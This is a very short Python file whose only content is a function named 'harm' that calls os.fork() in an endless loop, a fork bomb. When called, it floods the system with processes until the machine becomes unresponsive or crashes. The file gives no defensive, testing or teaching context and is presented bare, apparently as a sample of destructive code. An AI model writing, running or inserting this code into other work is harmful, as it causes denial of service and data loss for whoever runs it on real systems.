import os


def harm():
    while True:
        os.fork()
